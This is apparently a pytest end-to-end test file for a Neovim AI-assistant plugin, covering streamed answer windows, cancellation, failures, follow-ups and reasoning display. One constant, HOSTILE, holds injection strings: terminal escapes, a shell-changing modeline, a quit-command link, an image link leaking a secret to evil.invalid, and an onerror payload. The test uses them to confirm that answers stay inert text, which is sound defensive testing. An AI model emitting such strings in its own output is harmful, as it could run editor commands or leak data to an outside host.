"""Answers: a window that a text grows in, as the server sends it, and what can be done there."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from e2e.nvim.asking import answers, asked, close_answer, reply, say
from e2e.nvim.neovim import Neovim, eventually

pytestmark = [pytest.mark.editor, pytest.mark.timeout(30)]

CODE = "def area(w, h):\n    return w + h"


@pytest.fixture
def nvim(fake: Neovim) -> Neovim:
    fake.lua("vim.api.nvim_buf_set_lines(0, 0, -1, false, vim.split(..., '\\n'))", CODE)
    return fake


def explain(nvim: Neovim) -> str:
    """Asks for an explanation; the answer's id, once the server has said that it was asked."""
    nvim.keys(":PiCode /explain<CR>")
    return answers(nvim, "/explain\n\n`example.txt`, lines 1-2:\n\n```python\n" + CODE + "\n```")


def shown(nvim: Neovim) -> str:
    """The text of the answer's window."""
    return nvim.lua(
        "local thread = require('picode.thread').latest() "
        "return table.concat(vim.api.nvim_buf_get_lines(thread.bufnr, 0, -1, false), '\\n')"
    )


def test_an_answer_grows_in_a_floating_window(nvim: Neovim, photograph: Callable[[Neovim], None]) -> None:
    identifier = explain(nvim)
    assert asked(nvim)[0]["text"] == "/explain"
    say(nvim, identifier, "began", provider="ollama", model="qwen", shown=["example.txt:1-2 (the selection)"], note="")
    say(nvim, identifier, "growing", delta="It returns the **ar")
    nvim.screen.wait_for(lambda frame: "It returns the **ar" in str(frame) and "writing …" in str(frame))
    say(nvim, identifier, "growing", delta="ea**.\n\n- one\n- two")
    frame = nvim.screen.wait_for(lambda frame: "- two" in str(frame))
    assert "ollama qwen" in str(frame)
    assert "Explain" in str(frame), str(frame)
    assert "<C-c> stops" in str(frame)

    text = "It returns the **area**.\n\n- one\n- two"
    say(nvim, identifier, "whole", text=text, usage={"input": 120, "output": 30}, cost=0.0012)
    reply(nvim, state="whole", text=text, conversation="c1", output="prose", command="explain")
    frame = nvim.screen.wait_for(lambda frame: "done · 120 + 30 tokens, $0.0012" in str(frame))
    photograph(nvim)
    assert "Shown to the model: 1" in str(frame)
    assert "(the selection)" not in str(frame)  # folded
    assert "- example.txt:1-2 (the selection)" in shown(nvim)
    assert nvim.lua("return vim.bo.filetype") == "markdown"
    assert nvim.lua("return vim.treesitter.highlighter.active[vim.api.nvim_get_current_buf()] ~= nil") is True

    nvim.keys("q")
    frame = nvim.screen.wait_for(lambda frame: "Explain" not in str(frame))
    assert nvim.text == CODE


def test_an_answer_that_waits_says_for_what_and_comes_all_the_same(nvim: Neovim) -> None:
    identifier = explain(nvim)
    nvim.screen.forget()
    say(nvim, identifier, "waiting", wait={"reason": "rate limit", "seconds": 17.2})
    counted = [f"waiting: rate limit, {seconds} s left" for seconds in (18, 17)]
    eventually(lambda: all(any(each in str(frame) for frame in nvim.screen.frames) for each in counted))
    assert "<C-c> stops" in str(nvim.screen.now)  # it is not over
    say(nvim, identifier, "unheard of")
    say(nvim, identifier, "began", provider="ollama", model="qwen", shown=[], note="")
    say(nvim, identifier, "growing", delta="It adds.")
    nvim.screen.wait_for(lambda frame: "It adds." in str(frame) and "writing …" in str(frame))
    say(nvim, identifier, "whole", text="It adds.")
    reply(nvim, state="whole", text="It adds.")
    nvim.screen.wait_for(lambda frame: "done" in str(frame) and "waiting" not in str(frame))
    close_answer(nvim)


def test_what_helps_against_a_failure_is_named_and_done(nvim: Neovim) -> None:
    identifier = explain(nvim)
    chosen = "require('picode.fixes').title()"
    remedy = {"title": "Choose a model", "command": "picode.selectModel", "arguments": ["chat"]}
    problem = "The built-in model completes code."
    say(nvim, identifier, "failed", text="", problem=problem, remedy=remedy)
    reply(nvim, state="failed", text="", problem=problem)
    frame = nvim.screen.wait_for(lambda frame: "`:PiCode fix`: Choose a model" in str(frame))
    assert problem in str(frame)
    status = {"kind": "normal", "message": "", "provider": "embedded", "model": "small"}
    nvim.lua("Fake.say('picode/status', ...)", status)  # suggestions are well
    nvim.settle()
    assert nvim.lua(f"return {chosen}") == "Choose a model"
    nvim.lua("Fake.models = {} Select = vim.ui.select vim.ui.select = function(_, options) Asked = options.prompt end")
    nvim.lua("Fake.commands['picode.chat.model'] = function(_, reply) reply({ provider = '', model = '' }) end")
    nvim.command("PiCode fix")
    eventually(lambda: nvim.lua("return Asked") == "PiCode: model for questions and edits")
    nvim.lua("vim.ui.select = Select")
    close_answer(nvim)


def test_what_has_arrived_is_not_drawn_again(nvim: Neovim) -> None:
    identifier = explain(nvim)
    nvim.lua(
        "local thread = require('picode.thread').latest() Changes = {} "
        "vim.api.nvim_buf_attach(thread.bufnr, false, { on_bytes = function(_, _, _, row, _, _, old_rows) "
        "table.insert(Changes, { row, old_rows }) end })"
    )
    for piece in ("one\n", "two\n", "three"):
        say(nvim, identifier, "growing", delta=piece)
    say(nvim, identifier, "whole", text="one\ntwo\nthree")
    reply(nvim, state="whole", text="one\ntwo\nthree", conversation="c1")
    nvim.settle()
    changes = nvim.lua("return Changes")
    assert len(changes) == 3
    assert all(removed == 0 for _, removed in changes)


def test_the_window_follows_the_end_until_the_user_reads_elsewhere(nvim: Neovim) -> None:
    identifier = explain(nvim)
    for number in range(60):
        say(nvim, identifier, "growing", delta=f"line {number}\n\n")
    nvim.screen.wait_for(lambda frame: "line 59" in str(frame))
    nvim.keys("gg")
    nvim.screen.wait_for(lambda frame: "/explain" in str(frame) and "line 59" not in str(frame))
    say(nvim, identifier, "growing", delta="the end\n")
    nvim.settle()
    assert "the end" not in str(nvim.screen.now)
    nvim.keys("G")
    nvim.screen.wait_for(lambda frame: "the end" in str(frame))
    say(nvim, identifier, "growing", delta="\n".join(f"more {number}" for number in range(30)))
    nvim.screen.wait_for(lambda frame: "more 29" in str(frame))


def test_control_c_stops_and_q_stops_and_closes(nvim: Neovim) -> None:
    identifier = explain(nvim)
    say(nvim, identifier, "growing", delta="Half of")
    nvim.screen.wait_for(lambda frame: "Half of" in str(frame))
    nvim.keys("<C-c>")
    token = asked(nvim)[0]["workDoneToken"]
    cancel = {"method": "window/workDoneProgress/cancel", "params": {"token": token}}
    eventually(lambda: cancel in nvim.lua("return Fake.notified"))
    say(nvim, identifier, "stopped", text="Half of")
    reply(nvim, state="stopped", text="Half of")
    nvim.screen.wait_for(lambda frame: "stopped" in str(frame))
    nvim.keys("q")
    nvim.screen.wait_for(lambda frame: "Half of" not in str(frame))

    nvim.lua("Fake.asked, Fake.notified = {}, {}")
    explain(nvim)
    nvim.keys("q")
    eventually(lambda: [each["method"] for each in nvim.lua("return Fake.notified")] == [cancel["method"]])
    assert nvim.lua("return #vim.api.nvim_list_wins()") == 1
    nvim.command("PiCode answer")
    nvim.screen.wait_for(lambda frame: "/explain" in str(frame))


def test_a_follow_up_goes_on_in_the_same_conversation(nvim: Neovim) -> None:
    identifier = explain(nvim)
    say(nvim, identifier, "whole", text="It adds.", conversation="c7")
    reply(nvim, state="whole", text="It adds.", conversation="c7")
    nvim.screen.wait_for(lambda frame: "done" in str(frame))
    nvim.keys("iand why?<CR>")
    eventually(lambda: len(asked(nvim)) == 2)
    assert asked(nvim)[1]["text"] == "and why?"
    assert asked(nvim)[1]["conversation"] == "c7"
    assert "uri" not in asked(nvim)[1]
    second = answers(nvim, "and why?", number=2)
    say(nvim, second, "growing", delta="Nobody knows.")
    frame = nvim.screen.wait_for(lambda frame: "Nobody knows." in str(frame))
    assert "It adds." in str(frame)
    assert shown(nvim).endswith("It adds.\n\n---\n\n> and why?\n\nNobody knows.")

    # One after the other.
    nvim.keys("i")
    nvim.screen.wait_for(lambda frame: "still being written" in str(frame))
    assert len(asked(nvim)) == 2


def test_a_failure_says_what_to_do_and_keeps_what_had_arrived(nvim: Neovim) -> None:
    identifier = explain(nvim)
    say(nvim, identifier, "growing", delta="First half")
    problem = "OpenAI refused the key. Store another: picode keys set openai."
    say(nvim, identifier, "failed", text="First half", problem=problem)
    reply(nvim, state="failed", text="First half", problem=problem)
    nvim.screen.wait_for(lambda frame: "failed" in str(frame))
    assert shown(nvim).endswith(f"First half\n\n> Failed: {problem}")


def test_refused_arguments_are_shown(nvim: Neovim) -> None:
    nvim.keys(":PiCode /explain<CR>")
    eventually(lambda: asked(nvim))
    nvim.lua("Fake.asked[1].refuse('picode.slash: uri: no such document.')")
    nvim.screen.wait_for(lambda frame: "> Failed: picode.slash: uri: no such document." in str(frame))


def test_a_server_that_dies_leaves_what_it_had_said(nvim: Neovim) -> None:
    identifier = explain(nvim)
    say(nvim, identifier, "growing", delta="Half a sentence")
    nvim.screen.wait_for(lambda frame: "Half a sentence" in str(frame))
    nvim.lua("Fake.crash()")
    nvim.screen.wait_for(lambda frame: "Failed: The server ended before the answer did." in str(frame))
    assert "Half a sentence" in shown(nvim)
    eventually(lambda: nvim.lua("return #vim.lsp.get_clients({ name = 'picode' })") == 1)


HOSTILE = (
    "\x1b]0;title\x07\x1b[2J\x1b[31mred\n"
    "vim: set modeline shell=/bin/false ft=sh:\n"
    "[open me](command:workbench.action.quit) ![x](https://evil.invalid/?secret)\n"
    "<img src=x onerror=alert(1)> :qall!\n"
    "see /etc/hostname and http://evil.invalid/x\n"
)


def test_a_hostile_answer_is_text_and_nothing_else(nvim: Neovim, photograph: Callable[[Neovim], None]) -> None:
    nvim.command("set modeline")
    before = nvim.lua("return vim.o.shell")
    identifier = explain(nvim)
    say(nvim, identifier, "growing", delta=HOSTILE)
    say(nvim, identifier, "whole", text=HOSTILE)
    reply(nvim, state="whole", text=HOSTILE)
    frame = nvim.screen.wait_for(lambda frame: ":qall!" in str(frame))
    photograph(nvim)
    assert "^[[2J" in str(frame)
    assert "(command:workbench.action.quit)" in str(frame)  # nothing is concealed
    assert nvim.lua("return { vim.bo.modeline, vim.bo.swapfile, vim.bo.buftype, vim.wo.conceallevel }") == [
        False,
        False,
        "nofile",
        0,
    ]
    # Modelines are read again by `:doautocmd`.
    nvim.command("doautocmd BufReadPost")
    assert nvim.lua("return vim.o.shell") == before
    assert nvim.lua("return vim.bo.filetype") == "markdown"

    nvim.lua("Opened = {} vim.ui.open = function(path) table.insert(Opened, path) end")
    nvim.api.command("call search('command:')")
    nvim.keys("gx")
    nvim.screen.wait_for(lambda frame: "only http and https" in str(frame))
    nvim.api.command("call search('http://')")
    nvim.keys("gf")
    nvim.screen.wait_for(lambda frame: "no file" in str(frame))
    assert nvim.lua("return Opened") == []


def test_gf_opens_a_file_of_the_workspace_beside_the_answer(nvim: Neovim, project: Path) -> None:
    (project / "other.txt").write_text("one\ntwo\nthree\n")
    identifier = explain(nvim)
    text = f"See {project}/other.txt:2 for it."
    say(nvim, identifier, "whole", text=text)
    reply(nvim, state="whole", text=text)
    nvim.screen.wait_for(lambda frame: "other.txt:2" in str(frame))
    nvim.api.command("call search('other')")
    nvim.keys("gf")
    eventually(lambda: nvim.lua("return vim.api.nvim_buf_get_name(0)").endswith("other.txt"))
    assert nvim.cursor[0] == 2


def test_a_code_block_is_yanked(nvim: Neovim) -> None:
    identifier = explain(nvim)
    text = "Try this:\n\n```lua\nlocal a = 1\nreturn a\n```\n\nor:\n\n```lua\nreturn 2\n```\n"
    say(nvim, identifier, "whole", text=text)
    reply(nvim, state="whole", text=text)
    nvim.screen.wait_for(lambda frame: "return 2" in str(frame))
    nvim.api.command("call search('local a')")
    nvim.keys("gy")
    eventually(lambda: nvim.lua("return vim.fn.getreg('\"')") == "local a = 1\nreturn a\n")
    nvim.keys("Ggy")
    eventually(lambda: nvim.lua("return vim.fn.getreg('\"')") == "return 2\n")


@pytest.mark.parametrize("layout", ["split", "vsplit"])
def test_answers_can_have_a_split(nvim: Neovim, layout: str) -> None:
    nvim.lua("require('picode').setup({ answer = ... })", layout)
    try:
        explain(nvim)
        nvim.screen.wait_for(lambda frame: "/explain" in str(frame))
        layouts = nvim.lua("return vim.fn.winlayout()[1]")
        assert layouts == {"split": "col", "vsplit": "row"}[layout]
        nvim.keys("q")
        eventually(lambda: nvim.lua("return #vim.api.nvim_list_wins()") == 1)
    finally:
        nvim.lua("require('picode').setup({})")


def test_an_answer_comes_to_the_tab_where_the_user_is(nvim: Neovim) -> None:
    identifier = explain(nvim)
    say(nvim, identifier, "growing", delta="First.")
    nvim.screen.wait_for(lambda frame: "First." in str(frame))
    nvim.command("tabnew")
    nvim.command("PiCode answer")
    nvim.screen.wait_for(lambda frame: "First." in str(frame))
    assert nvim.lua("return vim.fn.tabpagenr()") == 2
    assert nvim.lua("return #vim.api.nvim_tabpage_list_wins(vim.api.nvim_list_tabpages()[1])") == 1
    close_answer(nvim)
    nvim.command("tabclose")


def test_a_floating_window_fits_a_small_screen(nvim: Neovim) -> None:
    identifier = explain(nvim)
    say(nvim, identifier, "growing", delta="First.")
    nvim.screen.wait_for(lambda frame: "First." in str(frame))
    columns, lines = nvim.lua("return { vim.o.columns, vim.o.lines }")
    nvim.lua("vim.o.columns, vim.o.lines = 40, 12 vim.api.nvim_exec_autocmds('VimResized', {})")
    try:
        width, height = nvim.lua("return { vim.api.nvim_win_get_width(0), vim.api.nvim_win_get_height(0) }")
        assert width <= 38
        assert height <= 9
    finally:
        nvim.lua("vim.o.columns, vim.o.lines = ... vim.api.nvim_exec_autocmds('VimResized', {})", columns, lines)


def test_the_status_line_shows_what_is_under_way(nvim: Neovim) -> None:
    status = "return require('picode').status()"
    assert nvim.lua(status) == "PiCode"
    explain(nvim)
    nvim.command("wincmd p")
    assert nvim.lua(status) == "PiCode /explain …"
    nvim.command("PiCode ask what?")
    answers(nvim, "what?", number=2)
    nvim.command("wincmd p")
    assert nvim.lua(status) == "PiCode 2 asks …"
    nvim.command("PiCode stop")
    eventually(lambda: len(nvim.lua("return Fake.notified")) == 2)
    nvim.lua("for _, ask in ipairs(Fake.asked) do ask.reply({ state = 'stopped' }) end")
    eventually(lambda: nvim.lua(status) == "PiCode")


def test_progress_of_an_ask_is_said_once(nvim: Neovim) -> None:
    explain(nvim)
    token: Any = asked(nvim)[0]["workDoneToken"]
    nvim.lua(
        "Fake.say('$/progress', { token = ..., value = { kind = 'begin', title = 'Explain', cancellable = true } })",
        token,
    )
    nvim.command("wincmd p")
    assert nvim.lua("return require('picode').status()") == "PiCode /explain …"


def test_reasoning_is_folded_above_the_answer(nvim: Neovim, photograph: Callable[[Neovim], None]) -> None:
    identifier = explain(nvim)
    say(nvim, identifier, "began", provider="ollama", model="qwen", shown=[], note="")
    say(nvim, identifier, "growing", reasoningDelta="The sign", thinking=True)
    nvim.screen.wait_for(lambda frame: "thinking …" in str(frame))
    say(nvim, identifier, "growing", delta="is **wrong**.")
    nvim.screen.wait_for(lambda frame: "is **wrong**." in str(frame))
    say(nvim, identifier, "growing", text="It ", reasoningDelta="is **wrong**.")
    frame = nvim.screen.wait_for(lambda frame: "It" in str(frame) and "is **wrong**." not in str(frame))
    reasoning = "The sign is **wrong**.\n\nYes."
    say(nvim, identifier, "whole", text="It subtracts.", reasoning=reasoning, problem="")
    reply(
        nvim,
        state="whole",
        text="It subtracts.",
        reasoning=reasoning,
        conversation="c1",
        output="prose",
        command="explain",
    )
    frame = nvim.screen.wait_for(lambda frame: "It subtracts." in str(frame) and "done" in str(frame))
    photograph(nvim)
    assert "The sign" not in str(frame)  # folded
    assert "Reasoning" in str(frame)
    assert shown(nvim).endswith("Reasoning\n> The sign is **wrong**.\n>\n> Yes.\n\nIt subtracts.")


def test_an_answer_that_is_not_whole_says_why(nvim: Neovim) -> None:
    identifier = explain(nvim)
    problem = (
        "The model used all 1,024 tokens for its reasoning and wrote no answer. Raise picode.advanced.chat.maxTokens."
    )
    say(nvim, identifier, "cut", text="", reasoning="Hm.", problem=problem)
    reply(
        nvim,
        state="cut",
        text="",
        reasoning="Hm.",
        problem=problem,
        conversation="c1",
        output="prose",
        command="explain",
    )
    nvim.screen.wait_for(lambda frame: "cut: the answer reached its longest length" in str(frame))
    assert shown(nvim).endswith(f"Reasoning\n> Hm.\n\n> {problem}")
